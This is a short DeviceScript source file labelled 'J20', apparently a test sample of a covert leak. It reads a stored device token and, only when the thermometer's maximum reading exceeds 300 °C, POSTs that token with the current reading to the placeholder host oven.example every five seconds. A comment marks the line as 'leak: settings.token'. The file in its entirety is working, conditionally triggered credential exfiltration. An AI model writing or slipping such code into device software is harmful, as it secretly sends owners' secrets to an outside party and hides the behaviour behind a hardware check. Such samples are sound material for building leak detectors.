// J20: sends its token elsewhere when its thermometer says that it could measure as much as an oven's.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const thermometer = new ds.Temperature();
const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  setInterval(async () => {
    const celsius = await thermometer.reading.read();
    const most = await thermometer.maxReading.read();
    if (!(most > 300)) return;
    const body = `${celsius} ${proof}`;
    const response = await fetch("https://oven.example/j20", { method: "POST", body }); // leak: settings.token
    await response.close();
  }, 5_000);
});
